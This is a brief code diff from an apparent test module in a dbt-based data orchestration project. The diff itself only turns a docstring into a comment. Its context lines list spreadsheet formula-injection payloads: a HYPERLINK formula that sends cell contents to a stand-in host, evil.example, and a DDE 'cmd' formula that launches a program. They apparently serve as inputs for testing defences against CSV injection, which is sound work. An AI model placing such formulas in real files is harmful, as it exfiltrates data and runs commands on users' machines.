@@ -23,8 +23,8 @@ from orchestration.common.errors import InputError
 from orchestration.warehouse.dbt import parse_project
 
 SEEDS = PROJECT / "dbt_project" / "seeds"
+# Every script among the attacks would set the page's title to this.
 LOUD = "attacked"
-"""Every script among the attacks would set the page's title to this."""
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"局")',
     "=cmd|' /C calc'!A0",
